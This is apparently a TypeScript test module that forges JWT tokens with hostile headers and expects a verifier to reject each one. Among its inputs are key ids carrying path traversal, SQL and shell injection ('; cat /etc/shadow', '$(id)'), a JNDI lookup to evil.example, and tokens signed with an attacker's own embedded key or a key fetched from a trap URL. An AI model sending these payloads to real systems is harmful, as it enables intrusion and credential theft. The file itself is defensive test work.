import { generateKeyPairSync, type KeyObject } from 'node:crypto';
import { refusedAs, type Attack, type AttackFamily } from '../attack.js';
import { SECRET_KEY_ID, type AttackKit } from '../attack-kit.js';

/** Paths, queries, commands, templates, addresses: a key id is compared and nothing else. */
const STRANGE_KEY_IDS = [
  '../../../../dev/null',
  '/dev/null',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  '/proc/self/environ',
  "x' UNION SELECT 'secret",
  "' OR 1=1--",
  '"; DROP TABLE keys',
  '$ne',
  '{"$gt":""}',
  '; cat /etc/shadow',
  '$(id)',
  '`id`',
  '| id',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00',
  '%2e%2e%2f',
  '*',
  'current*',
  'CURRENT',
  'current ',
  ' current',
  'r1',
  'e1',
  '__proto__',
  'constructor',
  'toString',
  '0',
  'null',
  'arn:aws:secretsmanager:us-east-1:1:secret:x',
  'AWSCURRENT',
  'AWSPENDING',
  'k'.repeat(256),
];

const NO_KEY_IDS: readonly unknown[] = [
  null,
  0,
  1,
  true,
  [],
  [SECRET_KEY_ID],
  {},
  { toString: SECRET_KEY_ID },
  '',
  'k'.repeat(257),
  'k'.repeat(4_000),
  'current\n',
  'current\r\nX-Admin: 1',
  'current\0',
  'cürrent',
  '\ud800',
  '\u202ecurrent',
  'current\u200b',
  '\ufeffcurrent',
  'ｃurrent',
];

const keyIds: AttackFamily = (kit) => [
  ...STRANGE_KEY_IDS.flatMap((kid) => [
    { name: `kid ${kid}`, reason: 'signature' as const, token: kit.forge({ header: { alg: 'HS256', kid } }) },
    {
      name: `kid ${kid}, signed with nothing`,
      reason: 'signature' as const,
      token: kit.forge({ header: { alg: 'HS256', kid }, secret: '' }),
    },
  ]),
  ...NO_KEY_IDS.map((kid, index) => ({
    name: `kid that is none, number ${index}`,
    reason: 'header' as const,
    token: kit.forge({ header: { alg: 'HS256', kid } }),
  })),
];

/** A key of the attacker's, and a token that it really signs. */
function bringOwnKey({ signWith, trapUrl }: AttackKit): readonly Attack[] {
  const own = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const { n, e } = own.publicKey.export({ format: 'jwk' });
  const jwk = { kty: 'RSA', n, e, kid: 'mine' };
  const oct = { kty: 'oct', k: Buffer.from('mine').toString('base64url') };
  const signed = (key: KeyObject, extra: object): string => signWith(key, { alg: 'RS256', ...extra });
  return refusedAs('header', {
    'a key in the header': signed(own.privateKey, { jwk }),
    'a key in the header, under a name of ours': signed(own.privateKey, { jwk, kid: 'r1' }),
    'a private key in the header': signed(own.privateKey, { jwk: own.privateKey.export({ format: 'jwk' }) }),
    'a shared secret in the header': signed(own.privateKey, { jwk: oct }),
    'a key set URL in the header': signed(own.privateKey, { jku: `${trapUrl}/jwks.json`, kid: 'mine' }),
    'a key set URL with our host before the @': signed(own.privateKey, { jku: `https://idp.example@${trapUrl}/` }),
    'a certificate URL in the header': signed(own.privateKey, { x5u: `${trapUrl}/cert.pem` }),
    'a certificate in the header': signed(own.privateKey, { x5c: ['MIIB'] }),
    'an issuer in the header': signed(own.privateKey, { iss: trapUrl }),
  });
}

const PARAMETERS: Readonly<Record<string, readonly unknown[]>> = {
  jwk: [{}, null, 'r1'],
  jku: ['', null, []],
  x5u: ['', null],
  x5c: [[], '', null],
  crit: [['exp'], ['b64'], [], 'exp', null],
  b64: [false, true, null],
  zip: ['DEF', null],
  cty: ['JWT', 'jwt', ''],
  enc: ['A256GCM'],
  epk: [{}],
  apu: ['x'],
  p2c: [1],
  p2s: ['x'],
  iv: ['x'],
  tag: ['x'],
  nonce: ['x'],
  url: ['x'],
  ppt: ['x'],
  svt: ['x'],
  trust_chain: [[]],
  exp: [9_999_999_999],
  sub: ['root'],
  ALG: ['none'],
  Alg: ['HS256'],
  KID: ['x'],
  TYP: ['JWT'],
  admin: [true],
  '': [1],
  toString: [1],
  typ: ['JWE', 'at+jwt', 'jwt', 'JWT ', '', null, 7, ['JWT'], {}, 'secevent+jwt', 'application/jwt'],
};

const parameters: AttackFamily = (kit) =>
  Object.entries(PARAMETERS).flatMap(([name, values]) =>
    values.flatMap((value) =>
      refusedAs('header', {
        [`header with ${name} ${JSON.stringify(value)}`]: kit.forge({ header: { alg: 'HS256', [name]: value } }),
      }),
    ),
  );

/** Headers that choose a key, bring one or change the rules. */
export const headers: AttackFamily = (kit) => [...keyIds(kit), ...bringOwnKey(kit), ...parameters(kit)];
